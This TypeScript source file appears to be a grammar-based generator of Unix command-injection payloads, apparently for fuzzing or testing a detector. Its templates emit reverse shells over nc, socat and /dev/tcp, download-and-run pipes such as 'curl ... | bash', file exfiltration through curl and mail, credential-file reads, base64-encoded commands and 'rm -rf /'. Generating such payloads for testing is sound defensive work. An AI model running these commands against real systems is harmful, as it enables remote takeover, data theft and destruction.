// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell syntax, not templates

import type { Random } from "../random.ts"
import { unixFile } from "./files.ts"
import { digits, type Grammar, hostName, identifier, ipAddress, oneOf } from "./grammar.ts"
import { UNIX_TRICKS } from "./unix-tricks.ts"

/** One command line, or a pipe of them. */
export function unixLine(random: Random): string {
  const first = commandWithArguments(random)
  if (random.chance(0.8)) return first
  const filter = oneOf(random, [
    (r) => `grep ${r.pick(["root", "-i pass", "-v nologin", identifier(r)])}`,
    (r) =>
      r.pick([
        "base64",
        "sh",
        "bash",
        "head -1",
        "tail -n 5",
        "wc -l",
        "xxd",
        "rev",
        "sort",
        "tee /tmp/x",
        "nl",
        "od -c",
        "cut -d: -f1",
        "awk '{print $1}'",
        "sed 's/a/b/'",
        "tr a b",
        "xargs",
      ]),
    (r) => `nc ${ipAddress(r)} ${r.between(1, 65535)}`,
    (r) => `curl -d @- http://${hostName(r)}/`,
  ])
  return `${first}${random.pick(["|", " | "])}${filter}`
}

function commandWithArguments(random: Random): string {
  return oneOf(random, COMMANDS)
}

const DOWNLOADED: Grammar = (r) =>
  `${r.pick(["http://", "https://", "ftp://", ""])}${hostName(r)}${r.pick(["", `:${r.between(80, 9999)}`])}/${identifier(r)}${r.pick([".sh", ".pl", "", ".php", ".txt", ".elf"])}`

const COMMANDS: readonly Grammar[] = [
  (r) =>
    `${r.pick(["cat", "cat", "cat", "head", "tail", "less", "more", "tac", "nl", "strings", "od -c", "xxd", "sort", "base64", "rev", "paste", "file", "stat", "wc -c"])} ${unixFile(r)}`,
  (r) =>
    `ls${r.pick(["", " -l", " -la", " -al", " -R", " -lah"])}${r.pick(["", ` ${r.pick(["/", "/etc", "/tmp", "/home", "..", "/var/www"])}`])}`,
  (r) =>
    r.pick([
      "id",
      "whoami",
      "pwd",
      "uname",
      "hostname",
      "ifconfig",
      "netstat",
      "ps",
      "env",
      "printenv",
      "set",
      "w",
      "who",
      "last",
      "date",
      "uptime",
      "df",
      "mount",
      "dir",
      "ls",
      "reboot",
      "arp",
      "lsb_release",
      "groups",
      "tty",
    ]),
  (r) =>
    r.pick([
      "uname -a",
      "ps aux",
      "ps -ef",
      "netstat -an",
      "netstat -tulpn",
      "ifconfig -a",
      "ip addr",
      "ip a",
      "df -h",
      "id -un",
      "w -h",
      "hostname -I",
      "crontab -l",
      "sudo -l",
      "lsof -i",
      "last -10",
      "history -c",
      "which python",
      "getent passwd",
      "env | sort",
      "ss -lnt",
    ]),
  (r) =>
    `ping ${r.pick(["-c", "-n", "-w", "-i"])} ${r.between(1, 30)} ${r.pick([ipAddress, hostName])(r)}`,
  (r) => `sleep ${r.pick([String(r.between(1, 60)), "10s", "0.5m"])}`,
  (r) =>
    `${r.pick(["nslookup", "dig", "host", "ping", "traceroute", "telnet", "ftp"])} ${identifier(r)}.${hostName(r)}`,
  (r) =>
    `wget ${r.pick(["", "-q ", "-O- ", "-qO - ", "-O /tmp/x "])}${DOWNLOADED(r)}${r.pick(["", " | sh", " -O /tmp/x", ";sh x", " && chmod +x x && ./x"])}`,
  (r) =>
    `curl ${r.pick(["", "-s ", "-k ", "-o /tmp/x ", "-fsSL "])}${DOWNLOADED(r)}${r.pick(["", " | bash", "|sh", " -o /tmp/x", ` -F f=@${unixFile(r)}`])}`,
  (r) =>
    `${r.pick(["nc", "ncat", "netcat"])} ${r.pick(["-e /bin/sh ", "-e /bin/bash ", "-lvp ", "", "-nv ", "-c bash "])}${ipAddress(r)} ${r.between(1, 65535)}`,
  (r) =>
    `${r.pick(["bash", "sh", "/bin/bash", "/bin/sh"])} -i >& /dev/tcp/${ipAddress(r)}/${r.between(1, 65535)} 0>&1`,
  (r) =>
    `${r.pick(["bash", "sh", "/bin/sh", "/bin/bash", "zsh", "cmd"])} -c ${r.pick(["'", '"'])}${r.pick(["id", "whoami", "ls -la", `cat ${unixFile(r)}`])}${r.pick(["'", '"'])}`,
  (r) =>
    `${r.pick(["python", "python3"])} -c ${r.pick(["'", '"'])}${r.pick(['import os;os.system("id")', "import socket,subprocess,os", 'print(open("/etc/passwd").read())', '__import__("os").popen("id").read()'])}${r.pick(["'", '"'])}`,
  (r) =>
    `${r.pick(["perl", "ruby"])} -e '${r.pick(['system("id")', 'exec "/bin/sh"', "print `id`", 'use Socket;$i="1.2.3.4";'])}'`,
  (r) =>
    `php -r '${r.pick(['system("id");', "phpinfo();", '$s=fsockopen("1.2.3.4",4444);', "echo 1+1;"])}'`,
  (r) =>
    `echo ${r.pick([identifier(r), digits(r, 5), "$((40+2))", "$HOME", "`id`", "$(whoami)", `'${identifier(r)}'`, "vulnerable"])}${r.pick(["", "", ` > /tmp/${identifier(r)}`, ` >> ${unixFile(r)}`, ""])}`,
  (r) =>
    `echo ${btoa(r.pick(["id", "whoami", "cat /etc/passwd", "ls -la"]))} | base64 ${r.pick(["-d", "--decode", "-D"])}${r.pick([" | sh", "|bash", ""])}`,
  (r) => `expr ${r.between(1, 99999)} ${r.pick(["+", "\\*", "-"])} ${r.between(1, 99999)}`,
  (r) =>
    `${r.pick(["rm -rf", "rm -f", "touch", "mkdir", "rmdir", "chmod 777", "chmod +x", "chown root", "mv x", "cp x"])} ${r.pick(["/", "*", "/tmp/x", "~", unixFile(r)])}`,
  (r) =>
    `find ${r.pick(["/", ".", "/etc", "/home"])} ${r.pick(["-name", "-iname"])} ${r.pick(["*.conf", "id_rsa", "'*.php'", "flag*"])}${r.pick(["", " -exec cat {} \\;", " 2>/dev/null"])}`,
  (r) => `grep ${r.pick(["-r", "-ri", "-R", "root", "-e"])} ${identifier(r)} ${unixFile(r)}`,
  (r) => `(${r.pick(["sleep 5", "id", "whoami", `cat ${unixFile(r)}`])})`,
  (r) =>
    `/${r.pick(["bin", "usr/bin", "sbin"])}/${r.pick(["cat", "id", "ls", "whoami", "uname", "wget", "curl", "ps", "sh"])}${r.pick(["", " -a", " -la", ` ${unixFile(r)}`])}`,
  (r) => `${r.pick(["mail", "sendmail"])} ${identifier(r)}@${hostName(r)} < ${unixFile(r)}`,
  (r) => `mkfifo /tmp/f;nc ${ipAddress(r)} ${r.between(1, 65535)} </tmp/f | /bin/sh >/tmp/f 2>&1`,
  (r) => `socat tcp:${ipAddress(r)}:${r.between(1, 65535)} exec:/bin/sh`,
  (r) =>
    `time if [ $(whoami|cut -c ${r.between(1, 9)}) == ${r.pick(["r", "w", "a"])} ]; then sleep ${r.between(1, 9)}; fi`,
  (r) => `awk 'BEGIN {system("${r.pick(["id", "whoami", "/bin/sh"])}")}'`,
  ...UNIX_TRICKS,
]
